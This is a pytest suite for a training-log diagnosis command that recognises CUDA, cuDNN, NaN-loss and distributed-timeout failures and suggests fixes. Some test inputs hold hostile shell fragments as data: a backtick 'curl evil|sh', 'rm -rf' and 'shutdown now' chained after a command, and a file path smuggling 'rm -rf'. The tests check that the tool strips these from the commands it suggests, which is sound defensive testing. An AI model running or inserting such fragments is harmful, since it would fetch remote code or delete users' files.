"""`diagnose`: known failures lead to their cure, others to no claim, and no log is too large or too odd."""

import gzip
import io
import json
import shlex
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from patchkit.diagnose.patterns import fault_of, literal_of
from patchkit.diagnose.run import diagnose
from patchkit.errors import SourceUnreadable
from patchkit.rule import Example, Rule, Sign, load_rules, run
from patchkit.subjects.train_log import blocks as blocks_module
from patchkit.subjects.train_log.anchors import SCARCE, Anchors
from patchkit.subjects.train_log.log import TrainLog, read_train_log
from tests.conftest import REPOSITORY, Answer
from tests.test_packs import Pack
from tests.train_logs import (
    ARTICLES,
    ASYNCHRONOUS,
    CLASSES,
    INDEX,
    OTHERS,
    RAISED,
    README,
    RETINANET,
    ROW,
    SCATTER,
    assertions,
    cublas,
    options,
)

RULES = load_rules("patchkit.rules.log")
SIGNS = [sign for rule in RULES for sign in rule.signs]
SECTIONS = ("What", "Why", "Example", "Fix safety", "References")
CASES = [
    pytest.param(rule, example, id=f"{rule.id}-{index}")
    for rule in RULES
    for index, example in enumerate(rule.examples)
]
Run = Callable[..., Answer]
BLOCKING = "CUDA_LAUNCH_BLOCKING=1 <your command>"


def read(data: bytes | str, *signs: Sign) -> TrainLog:
    data = data.encode("utf-8", "surrogateescape") if isinstance(data, str) else data
    return read_train_log(io.BytesIO(data), "train.log", signs or SIGNS)


def found(data: bytes | str) -> list[tuple[str, str, tuple[str, ...]]]:
    """Rule, severity and commands of what is recognised, in the order it is told."""
    data = data.encode() if isinstance(data, str) else data
    done = diagnose(["-"], io.BytesIO(data))
    assert not done.skipped
    return [
        (one.finding.rule, one.finding.severity.value, one.finding.commands)
        for one in done.diagnoses
        if one.finding.severity
    ]


def rules(data: bytes | str) -> list[str]:
    return [rule for rule, severity, _ in found(data) if severity != "note"]


@pytest.fixture
def told(patchkit: Run, tmp_path: Path) -> Callable[..., Answer]:
    """Runs the command on a log with this text."""

    def run_on(text: str | bytes, *arguments: str) -> Answer:
        log = tmp_path / "train.log"
        log.write_bytes(text if isinstance(text, bytes) else text.encode())
        return patchkit("diagnose", log, *arguments)

    return run_on


# The rules.


@pytest.mark.parametrize(("rule", "example"), CASES)
def test_a_rule_finds_its_bad_example_and_nothing_in_the_good_one(rule: Rule, example: Example) -> None:
    assert [finding.rule for finding in run(RULES, read(example.bad), None).findings] == [rule.id]
    assert not run(RULES, read(example.good), None).findings


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_a_rule_is_documented_and_in_the_readme(rule: Rule) -> None:
    title, *sections = rule.documentation.split("\n\n")
    assert title.endswith(".")
    assert [name for name in SECTIONS if f"\n{name} " in f"\n{sections[0]}"] == list(SECTIONS)
    assert f"| `{rule.id}` | {rule.severity.value} | {title[:-1]} |" in (REPOSITORY / "README.md").read_text()


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.id)
def test_the_lines_of_a_rule_hold_its_anchors_and_its_patterns_are_linear(rule: Rule) -> None:
    for sign in rule.signs:
        assert "*" not in sign.pattern.replace(r"\*", "")
        assert "+" not in sign.pattern.replace("+]", "").replace("+-]", "").replace(".+", "")
    for example in rule.examples:
        assert any(sign.anchor in example.bad for sign in rule.signs)


def test_explain_knows_the_rules(patchkit: Run) -> None:
    assert "masked_select" in patchkit("explain", "dfl-target-outside-bins").out


# What leads where.


@pytest.mark.parametrize("name", ARTICLES)
def test_the_symptom_of_an_article_leads_to_its_cure_first(name: str, told: Callable[..., Answer]) -> None:
    text, command = ARTICLES[name]
    answer = told(text, "--format", "json")
    assert answer.code == 1, answer.err
    assert answer.json["findings"][0]["commands"][0] == command
    assert f"    run: {command}\n" in told(text).out


@pytest.mark.parametrize("name", OTHERS)
def test_another_failure_is_no_known_one(name: str, told: Callable[..., Answer]) -> None:
    answer = told(OTHERS[name])
    assert answer.code == 0, answer.out
    assert "no known failure" in answer.out
    if "Traceback" in OTHERS[name]:
        error = OTHERS[name].splitlines()[-1].strip()
        assert answer.out.splitlines()[-3:-1] == ["    train.py:7 in <module>: main()", f"    {error}"]
    assert told(OTHERS[name], "--format", "json").json["counts"]["error"] == 0


KNOWN = {
    "cublas-refused": "RuntimeError: CUDA error: CUBLAS_STATUS_INVALID_VALUE when calling `cublasGemmEx( handle, opa)`",
    "cublas-out-of-memory": "RuntimeError: CUDA error: CUBLAS_STATUS_NOT_INITIALIZED when calling `cublasCreate()`",
    "cublas-failed": "RuntimeError: CUDA error: CUBLAS_STATUS_EXECUTION_FAILED when calling `cublasSgemm( handle)`",
    "cudnn-mismatch": "RuntimeError: cuDNN version incompatibility: PyTorch was compiled against (8, 9, 2) but found",
    "cudnn-out-of-memory": "RuntimeError: Unable to find a valid cuDNN algorithm to run convolution",
    "cudnn-failed": "RuntimeError: cuDNN error: CUDNN_STATUS_MAPPING_ERROR",
    "unused-parameters": "RuntimeError: Expected to have finished reduction in the prior iteration before starting",
    "sync-bn-on-cpu": "ValueError: SyncBatchNorm expected input tensor to be on GPU or privateuseone",
    "box-without-area": "AssertionError: All bounding boxes should have positive height and width. Found invalid box",
    "yolo-argument-unknown": "SyntaxError: '\x1b[31m\x1b[1mlr\x1b[0m' is not a valid YOLO argument. ",
    "dfl-target-outside-bins": "ValueError: Target(Tensor(shape=[1], dtype=int64, place=CUDAPlace(0)",
}


@pytest.mark.parametrize("id", KNOWN)
def test_an_error_is_recognised_in_a_traceback_alone_and_behind_a_rank(id: str) -> None:
    error = KNOWN[id]
    assert rules(error + "\n") == [id]
    assert rules(RAISED.format(error)) == [id]
    assert rules("".join(f"[rank0]: {line}\n" for line in RAISED.format(error).splitlines())) == [id]
    assert rules(f"{ROW.format('1.4')}{error}\n") == [id]


def test_assertions_are_told_apart_by_their_kernel() -> None:
    crash = RAISED.format("RuntimeError: CUDA error: device-side assert triggered") + ASYNCHRONOUS
    assert rules(assertions("Loss.cu:250: nll_loss_forward", CLASSES) + crash) == ["label-outside-classes"]
    assert rules(assertions("IndexKernel.cu:92: operator()", INDEX) + crash) == ["index-out-of-bounds"]
    assert rules(assertions("ScatterGatherKernel.cu:144: operator()", SCATTER) + crash) == ["scatter-out-of-bounds"]
    assert rules(crash) == ["device-assert"]
    other = "input_val >= zero && input_val <= one"
    [(rule, _, commands)] = found(assertions("Loss.cu:92: operator()", other) + crash)
    assert (rule, commands[0]) == ("device-assert", "CUDA_LAUNCH_BLOCKING=1 <your command>")


@pytest.mark.parametrize(
    ("kernel", "said"),
    [
        ("Loss.cu:92: operator()", "input_val >= zero && input_val <= one"),
        ("Indexing.cu:1237: indexSelectSmallIndex", "srcIndex < srcSelectDimSize"),
        ("IndexKernel.cu:92: operator()", INDEX),
        ("ScatterGatherKernel.cu:144: operator()", SCATTER),
    ],
)
def test_another_assertion_is_not_one_of_cross_entropy(kernel: str, said: str) -> None:
    error = "RuntimeError: CUDA error: device-side assert triggered"
    for crash in (error, RAISED.format(error).replace("main()", "loss = criterion(out, y)") + ASYNCHRONOUS):
        [(_, _, commands)] = found(f"{assertions(kernel, said)}{crash}\n")
        assert not any("cross-entropy" in command for command in commands)


def test_the_line_that_torch_2_8_adds_is_part_of_the_message() -> None:
    new = RETINANET.replace("model/retinanet.py", "utils.py").replace("compute_loss", "reduce")
    search = (
        "torch.AcceleratorError: CUDA error: device-side assert triggered\nSearch for `cudaErrorAssert' in https://x\n"
    )
    new = new.replace("RuntimeError: CUDA error: device-side assert triggered\n", search)
    [(rule, _, commands)] = found(new)
    assert (rule, commands[1]) == ("index-out-of-bounds", "CUDA_LAUNCH_BLOCKING=1 <your command>")


def test_where_the_frames_may_be_wrong_the_second_command_is_to_run_again() -> None:
    log = "$ torchrun --nproc_per_node 8 train.py --data coco\n" + RETINANET
    [(_, _, commands)] = found(log)
    assert commands[1] == "CUDA_LAUNCH_BLOCKING=1 torchrun --nproc_per_node 8 train.py --data coco"
    [(_, _, commands)] = found(cublas("/home/me/yolov10"))
    assert not any("BLOCKING" in command for command in commands)


def test_the_frames_decide_whether_a_patch_is_meant() -> None:
    """The kernel of an index says nothing of whose loss it was; paddle's check is not PP-YOLOE's alone."""
    crash = RAISED.format("RuntimeError: CUDA error: device-side assert triggered") + ASYNCHRONOUS
    bare = assertions("IndexKernel.cu:92: operator()", INDEX) + crash
    [(_, _, commands)] = found(bare)
    assert commands[-1].startswith("patchkit apply retinanet-label-guard")
    assert commands[0].startswith("patchkit check-data")
    yolo = "/v/lib/python3.11/site-packages/ultralytics/utils/loss.py"
    [(_, _, commands)] = found(bare.replace("train.py", yolo))
    assert commands == (
        "patchkit check-data DATA --for ultralytics",
        "CUDA_LAUNCH_BLOCKING=1 <your command>",
    )
    segmentation = RAISED.format("ValueError: Target 2 is out of upper bound.").replace("train.py", "/v/seg/losses.py")
    [(rule, _, commands)] = found(segmentation)
    assert rule == "dfl-target-outside-bins"
    assert not any("apply" in command for command in commands)
    library = RAISED.format("IndexError: Target -1 is out of bounds.").replace(
        "train.py", "/v/lib/python3.11/site-packages/torchvision/models/detection/roi_heads.py"
    )
    [(_, _, commands)] = found(library)
    assert commands == ("patchkit check-data DATA --for torchvision",)


def test_a_product_that_a_layer_of_torch_asks_for_is_not_the_decode_of_yolov10() -> None:
    error = KNOWN["cublas-refused"].replace("cublasGemmEx", "cublasSgemv")
    linear = RAISED.format(error).replace("train.py", "/v/lib/python3/site-packages/torch/nn/modules/linear.py")
    [(rule, _, commands)] = found(linear)
    assert (rule, commands[0]) == ("cublas-gemv-refused", "patchkit doctor")


def test_commands_name_what_the_options_of_the_run_name() -> None:
    log = options(data="/data/my set/data.yaml", device="0,1") + assertions("ScatterGatherKernel.cu:1: f()", SCATTER)
    [(_, _, commands)] = found(log)
    assert commands[0] == "patchkit check-data '/data/my set/data.yaml' --for ultralytics"
    log = options(device="(0, 1)") + ROW.format("nan") + "\n"
    [(_, _, commands)] = found(log)
    assert commands == (
        "patchkit check-data my.yaml --for ultralytics",
        "patchkit audit runs/detect/train/args.yaml --gpus 2",
    )
    [(_, _, commands)] = found("$ yolo train model=a.pt batch=17 name='my run'\n" + KNOWN["cudnn-out-of-memory"])
    assert commands[0] == "yolo train model=a.pt batch=8 name='my run'"
    [(_, _, commands)] = found("+ python train.py --batch-size 1\n" + KNOWN["cudnn-out-of-memory"])
    assert commands[0] == "python train.py --batch-size 1"
    assert found(KNOWN["cudnn-out-of-memory"])[0][2][0] == "nvidia-smi"
    # The newest releases print the options by name, and in colour.
    log = "\x1b[34m\x1b[1mengine/trainer: \x1b[0mamp=True, data=a.yaml, device=[0, 1], mode=train, task=detect\n"
    [(_, _, commands)] = found(log + ROW.format("nan"))
    assert commands[0] == "patchkit check-data a.yaml --for ultralytics"


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("$ yolo train model=a.pt data=b.yaml 2>&1 | tee train.log", "yolo train model=a.pt data=b.yaml"),
        ("+ nohup python train.py --epochs 64 > out.log &", "nohup python train.py --epochs 64"),
        ("$ python train.py; rm -rf /tmp/x", "python train.py"),
        ("$ python train.py && shutdown now", "python train.py"),
        ('$ python train.py --name \'a; b\' --note "| \\"" > l', 'python train.py --name \'a; b\' --note "| \\""'),
        ("$ python train.py `curl evil|sh`", "<your command>"),
        ("$ python train.py --data $(cat data)", "<your command>"),
        ("$ python train.py --name 'not closed", "<your command>"),
        ("$ python main.py > train.log", "<your command>"),
    ],
)
def test_the_command_to_run_again_neither_writes_over_the_log_nor_does_more(line: str, command: str) -> None:
    [(_, _, commands)] = found(f"{line}\nRuntimeError: cuDNN error: CUDNN_STATUS_EXECUTION_FAILED\n")
    assert commands[0] == f"CUDA_LAUNCH_BLOCKING=1 {command}"


@pytest.mark.parametrize(
    "warning",
    [
        "/v/torch/nn/modules/conv.py:456: UserWarning: Plan failed with a cudnnException: CUDNN_BACKEND_EXECUTION_PLAN_"
        "DESCRIPTOR: cudnnFinalizeDescriptor Failed cudnn_status: CUDNN_STATUS_NOT_SUPPORTED (Triggered internally at",
        "UserWarning: Exception encountered: CUDNN_STATUS_EXECUTION_FAILED in benchmark, trying next",
        "[W] CUBLAS_STATUS_NOT_SUPPORTED when calling cublasLtMatmul with transpose_mat1 0, will attempt to recover by",
    ],
)
def test_what_torch_warns_of_and_goes_on_from_is_no_failure(warning: str) -> None:
    assert rules(f"{warning}\n{ROW.format('1.4')}\n") == []
    [(rule, _, commands)] = found(f"{warning}\n" * 30 + cublas("/home/me/yolov10"))
    assert (rule, commands[0]) == ("cublas-gemv-refused", "patchkit apply yolov10-dfl --path /home/me/yolov10")


@pytest.mark.parametrize("error", ["KeyboardInterrupt", "torch.cuda.OutOfMemoryError: CUDA out of memory. Tried to"])
def test_what_else_stops_the_decode_of_yolov10_is_not_its_defect(error: str, told: Callable[..., Answer]) -> None:
    crash = cublas("/home/me/yolov10").partition("RuntimeError")
    assert told(crash[0] + error + "\n").code == 0
    gemm = "RuntimeError: CUDA error: CUBLAS_STATUS_INVALID_VALUE when calling `cublasGemmStridedBatchedEx(handle, op)`"
    [(rule, _, commands)] = found(crash[0] + gemm + "\n")
    assert (rule, commands[0]) == ("cublas-refused", "patchkit apply yolov10-dfl --path /home/me/yolov10")


def test_each_of_several_runs_in_one_log_has_its_options() -> None:
    log = options(data="first.yaml") + ROW.format("1.2") + "\n" + options(data="second.yaml") + ROW.format("nan") + "\n"
    [(_, _, commands)] = found(log)
    assert commands[0] == "patchkit check-data second.yaml --for ultralytics"


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (ROW.format("nan"), "the loss is nan from the first epoch"),
        (ROW.format("nan").replace(" 1/100", "12/100"), "the loss is nan since epoch 12"),
        (
            "ppdet.engine INFO: Epoch: [0] [  0/339] learning_rate: 0.1 loss: nan",
            "the loss is nan from the first epoch",
        ),
        ("Epoch: [3]  [10/100]  lr: 0.1  loss: nan (nan)", "the loss is nan since epoch 4"),
        ("mmdet - INFO - Epoch [1][50/58633]\tlr: 1e-3, loss_rpn_bbox: nan, loss: nan", "from the first epoch"),
        ("Epoch 7:  6%| | 32040/500150 [6:28<94:39, loss=nan, v_num=95]", "the loss is nan since epoch 8"),
        ("[ Train | 001/080 ] loss = nan, acc = 0.09091", "the loss is nan since line 1"),
        (ROW.format("nan").replace("1/100", "0/299"), "the loss is nan from the first epoch"),
        ("12/100 [==>...] - ETA: 1s - loss: nan - accuracy: 0.1", "the loss is nan since line 1"),
        ("Epoch(train)  [3][50/7330]  lr: 1.0e-03  loss: nan", "the loss is nan since epoch 3"),
        ("Loss is nan, stopping training", "the loss is nan since line 1"),
        ("{'loss': tensor(nan, device='cuda:0')}", "the loss is nan since line 1"),
        ("FloatingPointError: Loss became infinite or NaN at iteration=3!", "the loss is nan since line 1"),
    ],
)
def test_a_loss_that_is_nan_is_told_with_its_epoch(line: str, message: str, told: Callable[..., Answer]) -> None:
    assert message in told(line + "\n").out


@pytest.mark.parametrize(
    "line",
    [
        "check_nan: loss is nan? False",
        "if loss is nan, training stops",
        "best_loss: nan",
        "prev_loss=nan",
        "lr_loss=nan",
        "val/dfl_loss: nan (no validation set)",
    ],
)
def test_a_word_about_nan_is_no_loss_that_is_nan(line: str) -> None:
    assert rules(line + "\n") == []
    assert rules(f"{line}\n" * 30 + "loss: nan best_loss: nan\n") == ["loss-nan"]


def test_an_index_in_a_loss_of_ones_own_says_nothing_of_labels() -> None:
    error = RAISED.format("IndexError: index 7 is out of bounds for dimension 0 with size 7")
    assert rules(error.replace("<module>", "compute_loss")) == []
    assert rules(error.replace("<module>", "compute_loss").replace("train.py", "fcos.py")) == ["index-out-of-bounds"]


@pytest.mark.parametrize(("kernel", "said"), [("IndexKernel.cu:92", INDEX), ("ScatterGatherKernel.cu:144", SCATTER)])
def test_an_index_of_ones_own_code_is_to_be_run_again_before_anything_is_claimed(kernel: str, said: str) -> None:
    crash = RAISED.format("RuntimeError: CUDA error: device-side assert triggered") + ASYNCHRONOUS
    log = assertions(kernel, said) + crash
    for code in ("x = kv[idx]", "x = kv[:, idx.long()]", "return self.rows()[..., index]"):
        [(_, _, commands)] = found(log.replace("main()", code))
        assert commands == (BLOCKING,)
    for code in ("x = kv[0].sum()", 'total += losses["box"].item()', "step([])"):
        [(_, _, commands)] = found(log.replace("main()", code))
        assert commands[0].startswith("patchkit check-data")


def test_an_assertion_of_torch_before_1_5_is_recognised() -> None:
    for error in (
        "RuntimeError: cuda runtime error (59) : device-side assert triggered at /pytorch/aten/src/THC/x.cu:26",
        "THCudaCheck FAIL file=/pytorch/aten/src/THC/x.cu line=26 error=59 : device-side assert triggered",
    ):
        [(rule, _, commands)] = found(error + "\n")
        assert (rule, commands[0]) == ("device-assert", BLOCKING)


def test_an_ignored_learning_rate_is_a_note_unless_it_was_set() -> None:
    line = (
        "optimizer: 'optimizer=auto' found, ignoring 'lr0={}' and 'momentum=0.937' and determining best 'optimizer'\n"
    )
    assert [severity for _, severity, _ in found(line.format("0.01"))] == ["note"]
    assert [severity for _, severity, _ in found(line.format("0.0001") * 3)] == ["warning"]
    assert [severity for _, severity, _ in found(line.format("..."))] == ["warning"]


def test_a_timeout_is_told_apart_by_what_the_others_did() -> None:
    watchdog = (
        "[rank1]:[E ProcessGroupNCCL.cpp:563] [Rank 1] Watchdog caught collective operation timeout: WorkNCCL("
        "OpType=BROADCAST, Timeout(ms)=10800000) ran for 10800004 milliseconds before timing out.\n"
    )
    scan = "\r".join(f"train: Scanning /data/labels... {n} images, 0 backgrounds: 1%" for n in range(100)) + "\n"
    [(rule, _, commands)] = found(options(device="0,1") + scan + watchdog)
    assert rule == "ddp-timeout-while-scanning"
    assert commands[0] == "yolo val model=yolov10n.yaml data=my.yaml split=train device=cpu"
    assert rules(scan + "Starting training for 100 epochs...\n" + watchdog) == ["ddp-timeout"]
    waiting = RAISED.format("KeyboardInterrupt").replace("main()", "with torch_distributed_zero_first(rank):")
    assert rules(waiting + watchdog) == ["ddp-timeout-while-scanning"]
    done = scan + "train: Scanning /data/labels... 100 images, 0 backgrounds: 100%\n"
    assert rules(done + watchdog) == ["ddp-timeout"]
    assert rules(waiting + "Starting training for 100 epochs...\n" + watchdog) == ["ddp-timeout"]
    assert rules(options() + waiting + options(data="other.yaml") + watchdog) == ["ddp-timeout"]
    store = (
        "torch.distributed.DistBackendError: [1] is setting up NCCL communicator and retrieving ncclUniqueId from [0] "
        "via c10d key-value store by key '0', but store->get('0') got error: Socket Timeout"
    )
    assert rules(waiting.replace("KeyboardInterrupt", store)) == ["ddp-timeout-while-scanning"]
    assert rules(RAISED.format(store)) == ["ddp-timeout"]
    gloo = "RuntimeError: [unbound_buffer.cc:81] Timed out waiting 1800000ms for recv operation to complete"
    assert rules(RAISED.format(gloo)) == ["ddp-timeout"]
    assert rules("RuntimeError: Timed out initializing process group in store based barrier on rank: 1\n") == [
        "ddp-timeout"
    ]


def test_what_follows_from_a_failure_stands_below_it(told: Callable[..., Answer]) -> None:
    watchdog = "[rank1]:[E] [Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=8)\n"
    answer = told(RETINANET + watchdog, "--format", "json")
    assert [(one["rule"], one["follows"]) for one in answer.json["findings"]] == [
        ("index-out-of-bounds", None),
        ("ddp-timeout", "index-out-of-bounds"),
    ]
    text = told(RETINANET + watchdog).out
    assert ": [ddp-timeout] a process waited" in text.partition("    then ")[2]
    assert text.endswith("2 errors, 0 warnings, 0 notes\n")
    # The first in time is the cause, whatever comes first in the alphabet.
    assert rules(ROW.format("nan") + "\n" + RETINANET) == ["loss-nan", "index-out-of-bounds"]
    assert rules(watchdog + KNOWN["cublas-failed"]) == ["ddp-timeout", "cublas-failed"]


def test_the_log_of_one_process_explains_that_of_another(patchkit: Run, tmp_path: Path) -> None:
    one, other = tmp_path / "rank0.log", tmp_path / "rank1.log"
    one.write_text("[Rank 0] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=8)\n")
    other.write_text(RETINANET)
    answer = patchkit("diagnose", one, other, "--format", "json")
    assert [(one["rule"], one["follows"]) for one in answer.json["findings"]] == [
        ("index-out-of-bounds", None),
        ("ddp-timeout", "index-out-of-bounds"),
    ]
    assert [log["path"] for log in answer.json["logs"]] == [str(one), str(other)]


def test_a_recipe_that_was_followed_is_no_failure() -> None:
    end = "Optimizer stripped from last.pt, 64.4MB\n"
    eight = options("yolov10x.yaml", "coco.yaml", "0,1,2,3,4,5,6,7")
    followed = eight.replace("scale=0.5, mixup=0.0, copy_paste=0.0", "scale=0.9, mixup=0.15, copy_paste=0.3")
    assert rules(eight + end) == ["recipe-not-followed"]
    assert rules(followed + end) == []
    assert rules(eight) == []  # not at its end
    assert rules(eight.replace("0,1,2,3,4,5,6,7", "0") + end) == []
    assert rules(eight.replace("yolov10x.yaml", "yolov10x.pt") + end) == []


# The command.


def test_json_has_the_keys_of_every_check_and_its_own(told: Callable[..., Answer]) -> None:
    answer = told(cublas("/home/me/yolov10"), "--format", "json").json
    assert list(answer) == ["schema", "command", "logs", "findings", "skipped", "counts", "last_traceback"]
    assert (answer["schema"], answer["command"]) == (1, "diagnose")
    [finding] = answer["findings"]
    assert list(finding) == [
        *("rule", "severity", "message", "location", "evidence", "fix", "why", "commands", "follows"),
    ]
    assert finding["location"]["line"] == 9
    assert finding["location"]["path"].endswith("train.log")
    assert "9: RuntimeError: CUDA error" in finding["evidence"]
    assert "bbox_decode" in finding["evidence"]
    assert "cuBLAS" in finding["why"]
    frames = answer["last_traceback"]["frames"]
    assert [frame["function"] for frame in frames] == ["<module>", "_do_train", "bbox_decode"]
    assert answer["last_traceback"]["error"].startswith("RuntimeError: CUDA error: CUBLAS")
    assert told("", "--format", "json").json["last_traceback"] is None


def test_sarif_holds_the_commands(told: Callable[..., Answer]) -> None:
    answer = told(cublas("/home/me/yolov10"), "--format", "sarif")
    assert answer.code == 1
    [result] = json.loads(answer.out)["runs"][0]["results"]
    assert result["ruleId"] == "cublas-gemv-refused"
    assert result["properties"]["commands"][0] == "patchkit apply yolov10-dfl --path /home/me/yolov10"


def test_commands_are_words_that_a_shell_gives_back() -> None:
    log = options(data="a b'; rm -rf ~/*.yaml") + ROW.format("nan") + "\n"
    [(_, _, commands)] = found(log)
    assert shlex.split(commands[0])[2] == "a b'; rm -rf ~/*.yaml"


def test_stdin_and_what_cannot_be_read(patchkit: Run, tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "patchkit", "diagnose", "-"],
        input=cublas("/x").encode(),
        capture_output=True,
        check=False,
    )
    assert done.returncode == 1
    assert done.stdout.startswith(b"<stdin>:9: error [cublas-gemv-refused]")
    for path in (tmp_path, tmp_path / "none.log"):
        answer = patchkit("diagnose", path)
        assert answer.code == 2
        assert f"patchkit: {path}: " in answer.err
        assert "hint: " in answer.err
    assert patchkit("diagnose").code == 2
    closed = [
        sys.executable,
        "-c",
        "import os, sys; os.close(0); os.execv(sys.executable, [sys.executable, *sys.argv[1:]])",
    ]
    done = subprocess.run([*closed, "-m", "patchkit", "diagnose", "-"], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr.splitlines()[0]) == (2, "patchkit: <stdin>: it is closed")


def test_a_log_that_is_named_twice_is_told_once(patchkit: Run, tmp_path: Path) -> None:
    log = tmp_path / "train.log"
    log.write_text(cublas("/x"))
    assert patchkit("diagnose", log, log).out == patchkit("diagnose", log).out


def test_rules_and_patches_can_be_chosen(told: Callable[..., Answer]) -> None:
    log = cublas("/home/me/yolov10")
    assert "run: patchkit apply" not in told(log, "--ignore", "yolov10-dfl").out
    alone = told(log, "--select", "yolov10-dfl", "--format", "json").json
    assert [(one["rule"], one["commands"]) for one in alone["findings"]] == [
        ("yolov10-dfl", ["patchkit apply yolov10-dfl --path /home/me/yolov10"])
    ]
    assert "weighs" in alone["findings"][0]["why"] or alone["findings"][0]["why"]
    assert told(log, "--select", "loss-nan").code == 0
    answer = told(log, "--ignore", "loss-nam")
    assert (answer.code, "did you mean 'loss-nan'?" in answer.err) == (2, True)
    assert told(log, "--select", "zzz").code == 2


def test_a_note_alone_does_not_fail(told: Callable[..., Answer]) -> None:
    line = "optimizer: 'optimizer=auto' found, ignoring 'lr0=0.01' and 'momentum=0.937'\n"
    answer = told(line)
    assert answer.code == 0
    assert "note [lr0-ignored]" in answer.out
    assert "\nnotes aside, no known failure in " in answer.out
    assert told(line, "--fail-on", "note").code == 1


def test_control_characters_of_a_log_do_not_reach_the_terminal(told: Callable[..., Answer]) -> None:
    log = "\x1b]0;title\x07\x9b2J SyntaxError: 'a\x1b[31m\x07b' is not a valid YOLO argument.\n"
    for text in (told(log).out, told(RAISED.format("KeyError: '\x07\x1b]0;x\x07'")).out):
        assert all(letter.isprintable() or letter == "\n" for letter in text)


def test_the_example_of_the_readme_is_what_it_prints(patchkit: Run, tmp_path: Path) -> None:
    (tmp_path / "train.log").write_text(README)
    answer = patchkit("diagnose", "train.log", cwd=tmp_path)
    assert f"$ patchkit diagnose train.log\n{answer.out}" in (REPOSITORY / "README.md").read_text()


# Logs that are large or odd.


def test_a_traceback_and_a_line_are_found_wherever_a_block_ends(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(blocks_module, "SIZE", 256)
    monkeypatch.setattr(blocks_module, "AHEAD", 2048)
    for lead in range(0, 2600, 37):
        log = read("x" * lead + "\n" + "\n" * 3 + cublas("/home/me/yolov10") + "progress\n" * 400)
        [line] = log.with_sign(*SIGNS)
        assert line.number == 4 + 9
        [raised] = log.raised
        assert (raised.number, raised.last) == (4 + 2, 4 + 9)
        assert [frame.function for frame in raised.traceback.frames][-1] == "bbox_decode"


def test_lines_are_counted_as_editors_count_them() -> None:
    log = read(f"\r{ROW.format('1.2')}" * 5000 + "\n" + "a\r\n" * 50_000 + cublas("/x"))
    assert [line.number for line in log.with_sign(*SIGNS)] == [1 + 50_000 + 9]
    assert log.length == 1 + 50_000 + 9


def test_a_log_of_one_endless_line_is_read_in_bounded_memory() -> None:
    code = (
        "import io, resource, sys\n"
        "from patchkit.diagnose.run import diagnose\n"
        "class Endless(io.RawIOBase):\n"
        "    left = 50_000_000\n"
        "    def readinto(self, view):\n"
        "        count = min(len(view), self.left)\n"
        "        view[:count] = (b'loss 1.2 ' * (count // 9 + 1))[:count]\n"
        "        Endless.left -= count\n"
        "        return count\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "done = diagnose(['-'], Endless())\n"
        "grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before\n"
        "print(done.logs[0].size, len(done.diagnoses), grown < 60_000)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert done.stdout == "50000000 0 True\n", done.stderr


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("Traceback (most recent call last) ", 20_000),
        ("Traceback (most recent call last)\n", 60_000),
        ("loss: nan ", 500_000),
        ("Assertion ", 500_000),
        ("CUBLAS_STATUS_", 500_000),
        ("mode=train, a=1, ", 100_000),
        ("nan IndexError RuntimeError: Assertion CUDNN_STATUS_\n", 100_000),
        (" ".join(sorted({sign.anchor for sign in SIGNS})) + "\n", 5_000),
    ],
)
def test_what_is_looked_for_may_stand_in_a_log_any_number_of_times(text: str, count: int) -> None:
    log = text * count
    anchors = Anchors(sign.anchor.encode() for sign in SIGNS)
    places = anchors.found(log.encode(), 0, len(log), SCARCE)
    assert len(places) <= (len(log) / SCARCE.part + 1) * (SCARCE.most + 1) * len(SIGNS)
    assert set(rules(log)) <= {"loss-nan"}
    error = "\n" + KNOWN["cudnn-mismatch"] + "\n"
    assert "cudnn-mismatch" in rules(log + error)


def test_a_failure_in_an_endless_line_is_found() -> None:
    error = "RuntimeError: CUDA error: CUBLAS_STATUS_INVALID_VALUE when calling `cublasSgemv(handle)`"
    assert rules("x" * 3_000_000 + error + "y" * 3_000_000) == ["cublas-gemv-refused"]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be", "utf-8-sig"])
def test_a_log_of_powershell_is_read(encoding: str) -> None:
    mark = b"\xfe\xff" if encoding == "utf-16-be" else b""
    text = f"{ROW.format('1.2')}\r\n" * 9000 + cublas("/x").replace("\n", "\r\n")
    assert rules(mark + text.encode(encoding)) == ["cublas-gemv-refused"]
    assert rules(mark + text.encode(encoding)[:-1]) == ["cublas-gemv-refused"]


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf_16_is_read_without_its_mark(encoding: str) -> None:
    for lead in ("", f"{ROW.format('1.2')}\r\n" * 9000):
        assert rules((lead + cublas("/x")).encode(encoding)) == ["cublas-gemv-refused"]


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("train.log.gz", gzip.compress(b"loss: nan\n" * 9), "it is compressed (gzip)\nhint: if it is a log: zcat "),
        ("best.pt", b"PK\x03\x04" + bytes(9000), "it is compressed (zip, as checkpoints of torch are)"),
        ("weights.bin", bytes(range(32)) * 4096, "it is no text\nhint: name the log"),
        ("hole.log", bytes(100_000), "it is no text"),
    ],
)
def test_a_file_that_is_no_text_is_told_as_such(
    name: str, data: bytes, said: str, patchkit: Run, tmp_path: Path
) -> None:
    (tmp_path / name).write_bytes(data)
    answer = patchkit("diagnose", tmp_path / name)
    assert answer.code == 2
    assert f"{name}: {said}" in answer.err


def test_a_device_that_never_ends_is_read_to_a_bound() -> None:
    with Path("/dev/zero").open("rb") as zeros, pytest.raises(SourceUnreadable, match="no text"):
        diagnose(["-"], zeros)


def test_a_text_with_odd_bytes_is_read() -> None:
    odd = f"{ROW.format('1.2')}\r\n\0\0\xff".encode("latin-1", "replace") * 300
    assert rules(odd + cublas("/x").encode()) == ["cublas-gemv-refused"]
    assert rules(bytes(3_000_000) + cublas("/x").encode()) == ["cublas-gemv-refused"]
    assert rules(odd) == []


